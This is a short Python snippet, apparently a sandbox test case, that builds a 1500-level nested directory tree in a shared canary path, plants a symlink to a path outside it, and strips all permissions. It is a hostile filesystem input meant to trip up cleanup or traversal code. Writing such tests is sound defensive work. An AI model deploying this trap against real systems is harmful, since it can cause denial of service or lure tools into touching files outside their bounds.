import os

os.chdir(clues["CANARY_SHARED"])
for _ in range(1500):
    os.mkdir("a")
    os.chdir("a")
os.symlink(clues["CANARY_OUTSIDE"], "out")
os.chmod(".", 0)
os.chmod(clues["CANARY_SHARED"] + "/a", 0)
